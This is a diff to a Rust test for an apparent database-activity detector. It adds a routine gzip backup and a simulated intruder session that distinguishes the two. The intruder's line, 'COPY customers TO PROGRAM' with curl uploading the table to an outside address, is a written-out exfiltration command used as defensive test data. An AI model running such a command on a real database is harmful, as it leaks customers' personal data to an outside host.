@@ -1076,7 +1076,23 @@ fn whole_table_reads_vs_the_nightly_job() {
             "COPY (SELECT id, email FROM customers) TO STDOUT",
             None,
         ));
+        // A backup job pipes the table to gzip on the server: the server's own tool.
+        v.push(db(
+            T0 + d * DAY + MIN,
+            "backup",
+            "10.0.5.22",
+            "COPY customers TO PROGRAM 'gzip > /backup/customers.gz'",
+            None,
+        ));
     }
+    // An intruder's session pipes it to another host.
+    v.push(db(
+        T0 + 2 * DAY + 7 * 3_600_000_000,
+        "postgres",
+        "192.0.2.49",
+        "COPY customers TO PROGRAM 'curl -T - https://203.0.113.77/u'",
+        None,
+    ));
     v.push(db(
         T0 + 3 * DAY + 3 * 3_600_000_000,
         "postgres",
@@ -1101,6 +1117,12 @@ fn whole_table_reads_vs_the_nightly_job() {
     assert!(
         !has(&a, t::BULK_EXPORT, "10.0.5.20"),
         "the nightly job is routine"
+    );
+    assert!(has(&a, t::BULK_EXPORT, "192.0.2.49"));
+    assert!(
+        !a.findings.iter().any(|f| f.subject.contains("10.0.5.22")),
+        "the backup job is routine: {:?}",
+        a.findings
     );
 }
 
